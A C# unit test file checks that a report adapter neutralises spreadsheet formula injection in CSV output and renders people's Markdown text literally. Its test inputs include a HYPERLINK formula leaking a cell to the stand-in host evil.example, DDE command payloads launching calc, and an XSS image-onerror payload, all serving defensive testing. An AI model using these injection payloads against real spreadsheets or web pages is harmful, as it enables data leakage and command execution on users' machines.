using System.Text.RegularExpressions;
using AngleSharp.Html.Parser;
using Markdig;
using ProgrammeWorkflows.Adapters.Reports;
using ProgrammeWorkflows.Domain.Delegates;
using ProgrammeWorkflows.Domain.Escalations;
using ProgrammeWorkflows.Domain.FollowUp;
using ProgrammeWorkflows.Domain.Programme;
using ProgrammeWorkflows.Domain.Reports;
using ProgrammeWorkflows.Domain.Submissions;

namespace ProgrammeWorkflows.Adapters.Tests.Reports;

/// <summary>
/// People's text written to be read as something else: formulas for a spreadsheet opening the CSV, Markdown syntax for
/// a reader rendering the Markdown. Every one of them comes out as the text it is.
/// </summary>
public sealed partial class HostileTextTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
    private const string HostileName = "=HYPERLINK(\"http://evil.example\",\"Anne\")";
    private const string HostileAttachment = "@SUM(1+1)*cmd|' /C calc'!A0.pdf";

    private static readonly ProgrammeDefinition Programme = BuiltInProgrammes.CustomsActionProgramme;

    /// <summary>Item 6 of 1998: Belgium's delegate (named as a formula) answers with <paramref name="text"/>; France waived with <paramref name="reason"/>.</summary>
    private static ConsolidatedReport ItemSix(string text, string reason = "not applicable")
    {
        var csv = DelegateDirectoryCsv.SampleCsv().Replace("BE,Anne Peeters,", $"BE,\"{HostileName.Replace("\"", "\"\"", StringComparison.Ordinal)}\",", StringComparison.Ordinal);
        var directory = DelegateDirectoryCsv.Read(new StringReader(csv), Programme.Parties).GetValueOrThrow();
        var cycle = ProgrammeSchedule.Find(Programme, 6, "1998");
        var at = new DateTimeOffset(1998, 2, 1, 0, 0, 0, TimeSpan.Zero);
        var raised = new DateTimeOffset(1998, 4, 1, 0, 0, 0, TimeSpan.Zero);
        var answer = new Submission("csap1997", 6, "1998", "BE", 1, directory.Of("BE")[0].Id, SubmissionStatus.Done, text, [new AttachmentRef(HostileAttachment, "application/pdf", 10, "x")], at, at);
        var waived = Escalation.Raise(cycle.InstanceId, "csap1997", 6, "1998", "FR", 0, cycle.Due, raised, "UK").Waive(raised.AddDays(3), "UK", reason);
        return ConsolidatedReport.Build(Programme, cycle, [answer], [waived], directory, new DateOnly(1998, 6, 1), closed: true);
    }

    [Theory]
    [InlineData(Hyperlink)]
    [InlineData("+1+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void A_csv_cell_that_a_spreadsheet_would_read_as_a_formula_is_neutralised_and_reads_back(string text)
    {
        var csv = ReportCsv.Submissions([ItemSix(text)]);
        var row = ReportRenderingTests.ReadCsv(csv)[1];

        Assert.Equal(("'" + HostileName, "'" + HostileAttachment, "'" + text), (row[7], row[9], row[10]));
        Assert.DoesNotMatch(FormulaField(), csv);
    }

    [Fact]
    public void A_csv_cell_of_plain_text_is_as_before()
    {
        Assert.Equal(("plain", "\"a, b\"", "\"say \"\"hi\"\"\""), (ReportCsv.Field("plain"), ReportCsv.Field("a, b"), ReportCsv.Field("say \"hi\"")));
        Assert.Equal("\"'=1+1\"", ReportCsv.Field("=1+1"));
        Assert.Equal("\"'=1,\"\"x\"\"\"", ReportCsv.Field("=1,\"x\""));
    }

    [Theory]
    [InlineData("Our answer\n===")]
    [InlineData("Our answer\n---")]
    [InlineData("Intro\n\n    indented code")]
    [InlineData("Intro\n\n\tindented with a tab")]
    [InlineData("# a heading\n## another")]
    [InlineData("- a list\n* another\n+ a third\n1. numbered\n2) numbered")]
    [InlineData("> a quote\n>> nested")]
    [InlineData("*emphasis* _emphasis_ **strong** ~~struck~~ `code`")]
    [InlineData("[a link](http://evil.example) ![an image](http://evil.example/x.png) [ref]\n\n[ref]: http://evil.example")]
    [InlineData("<b>html</b> <img src=x onerror=alert(1)> &amp; &#60;")]
    [InlineData("| a | b |\n|---|---|\n| c | d |")]
    [InlineData("```\nfenced\n```\n~~~\nfenced\n~~~")]
    [InlineData("Intro\r\n\r\n    code after CRLF\rand a bare CR\r===")]
    public void Markdown_in_a_persons_text_renders_as_the_text_it_is(string text)
    {
        var html = Markdown.ToHtml(ReportMarkdown.Consolidated(ItemSix(text, reason: text)), new MarkdownPipelineBuilder().UsePipeTables().UseEmphasisExtras().Build());
        var document = new HtmlParser().ParseDocument(html);

        // The report's own structure (its heading levels, the decisions' list) and nothing of the person's: no element
        // but paragraphs, breaks and the report's own, and the person's words verbatim in the text.
        var own = new HashSet<string>(StringComparer.OrdinalIgnoreCase) { "html", "head", "body", "h1", "h2", "p", "br", "ul", "li" };
        Assert.Empty(document.All.Select(e => e.LocalName).Where(n => !own.Contains(n)).Distinct());
        Assert.Equal(1, document.QuerySelectorAll("h1").Length);
        Assert.Equal(Programme.Item(6).Owners.Count, document.QuerySelectorAll("h2").Length);
        var expected = Regex.Replace(text.Replace("\r\n", "\n", StringComparison.Ordinal).Replace('\r', '\n'), @"\s+", " ").Trim();
        Assert.Contains(expected, Regex.Replace(document.Body!.TextContent, @"\s+", " "), StringComparison.Ordinal);
    }

    [GeneratedRegex(@"(^|,|\n)[=+\-@\t\r]")]
    private static partial Regex FormulaField();
}
